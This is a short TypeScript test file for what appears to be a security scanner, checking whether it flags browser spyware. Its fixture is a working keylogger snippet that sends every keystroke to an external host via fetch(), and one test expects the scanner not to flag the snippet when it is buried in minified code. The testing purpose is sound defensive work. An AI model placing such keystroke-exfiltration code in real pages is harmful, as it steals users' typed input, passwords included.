import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { memoryTree, scan } from '../src/index.ts';

const WATCHES = `document.addEventListener('keyup', function (e) { var c = e.key; fetch('https://c.acme.net/' + c); });\n`;

async function checksOn(text: string): Promise<readonly string[]> {
  const { findings } = await scan(memoryTree({ 'page.js': text }));
  return findings.map(({ checkId }) => checkId);
}

suite('a script that sends keys away', () => {
  test('is told where it can be read', async () => {
    assert.ok((await checksOn(WATCHES)).includes('data-handling-browser-spyware'));
  });

  test('is not guessed from the look of minified code', async () => {
    const minified = `${'var a=[1,2,3];'.repeat(400)}${WATCHES}`;

    assert.ok(!(await checksOn(minified)).includes('data-handling-browser-spyware'));
  });
});
